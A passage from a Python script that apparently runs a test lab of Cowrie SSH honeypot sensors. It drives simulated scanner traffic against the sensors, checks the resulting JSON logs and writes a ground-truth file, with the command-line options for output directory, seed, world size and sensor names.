        raise LabError(f"no Cowrie record from source IPs {silent}")
    return counts


def run(args: argparse.Namespace) -> None:
    out = Path(args.out).resolve()
    out.mkdir(parents=True, exist_ok=True)
    sensors = [s.strip() for s in args.sensors.split(",") if s.strip()]
    if not sensors or len(set(sensors)) != len(sensors):
        raise LabError(f"--sensors needs distinct names, got {args.sensors!r}")
    user = args.cowrie_user if os.geteuid() == 0 else None
    if user is not None:
        import pwd
        try:
            pwd.getpwnam(user)
        except KeyError:
            raise LabError(f"user {user!r} does not exist; run .ci/cowrie-setup")

    state = out / "state"
    if state.exists():
        shutil.rmtree(state)
    state.mkdir()
    instances = [
        CowrieInstance(sensor=s, hostname=f"srv-{s}", directory=state / s,
                       json_log=out / f"{s}.json", venv=Path(args.cowrie_venv),
                       user=user)
        for s in sensors
    ]
    world = World(args.seed, args.world, sensors, random.Random(args.seed))
    started = time.monotonic()
    try:
        for inst in instances:
            inst.write_config()
            if user is not None:
                check = subprocess.run(
                    ["runuser", "-u", user, "--", "test", "-w", str(inst.json_log)])
                if check.returncode != 0:
                    raise LabError(
                        f"user {user!r} cannot write {inst.json_log}; choose an "
                        "--out directory it can reach (every parent must be "
                        "searchable by it)")
            inst.start()
        for inst in instances:
            inst.wait_listening()
        targets = {i.sensor: Target(i.sensor, i.port) for i in instances}
        with tempfile.TemporaryDirectory(prefix="cowrie-lab-") as workdir:
            build_and_run_world(world, targets, Path(workdir))
        wait_sessions_closed(instances)
    finally:
        failures = []
        for inst in instances:
            try:
                inst.stop()
            except LabError as e:
                failures.append(str(e))
        if failures and sys.exc_info()[0] is None:
            raise LabError("; ".join(failures))
    counts = check_log(world, instances)
    truth_path = out / "truth.json"
    truth_path.write_text(json.dumps(world.truth(), indent=2, sort_keys=True) + "\n")
    log(f"world {args.world} seed {args.seed}: {len(world.actors)} source IPs, "
        f"{sum(counts.values())} records in {time.monotonic() - started:.1f}s")
    for eventid in sorted(counts):
        log(f"  {counts[eventid]:5d} {eventid}")
    log(f"logs: {', '.join(str(i.json_log) for i in instances)}; truth: {truth_path}")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", required=True,
                        help="output directory (logs, truth.json, state/)")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--world", choices=("full", "small"), default="full",
                        help="full: 25 scanners; small: 4 (for recorded logs)")
    parser.add_argument("--sensors", default="decky-01,decky-02",
                        help="comma-separated Cowrie sensor names; the first "
                             "one carries the hand-offs")
    parser.add_argument("--cowrie-venv", default=DEFAULT_COWRIE_VENV)
    parser.add_argument("--cowrie-user", default=DEFAULT_COWRIE_USER,
                        help="user Cowrie runs as when the lab runs as root")
    args = parser.parse_args()
    try:
        run(args)
    except LabError as e:
        print(f"lab: error: {e}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
